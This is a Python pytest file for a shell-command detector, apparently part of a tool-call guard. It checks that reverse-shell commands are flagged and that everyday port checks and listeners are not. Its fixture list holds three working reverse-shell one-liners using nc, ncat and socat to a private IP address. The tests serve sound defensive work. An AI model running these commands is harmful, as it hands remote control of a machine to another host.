from __future__ import annotations

import shlex

import pytest

from callgate.detectors.shell.programs import danger_of
from callgate.detectors.shell.programs.base import Danger


def judge(line: str) -> Danger | None:
    program, *arguments = shlex.split(line)
    return danger_of(program, arguments)


HARM = r"""
REVERSE_SHELL           nc -e /bin/sh 10.0.0.1 4444
REVERSE_SHELL           ncat 10.0.0.1 4444 --exec /bin/bash
REVERSE_SHELL           socat TCP:10.0.0.1:4444 EXEC:/bin/sh
"""

QUIET = r"""
nc -zv host 80
nc -e
ncat -l 80
socat -d TCP:host:80 STDOUT
socat EXEC:/bin/sh
"""


@pytest.mark.parametrize("line", HARM.strip().splitlines())
def test_shell_for_another_host_is_found(line: str) -> None:
    kind, words = line.split(maxsplit=1)
    danger = judge(words)
    assert danger is not None
    assert danger.kind == kind


@pytest.mark.parametrize("line", QUIET.strip().splitlines())
def test_everyday_work_is_not_found(line: str) -> None:
    assert judge(line) is None
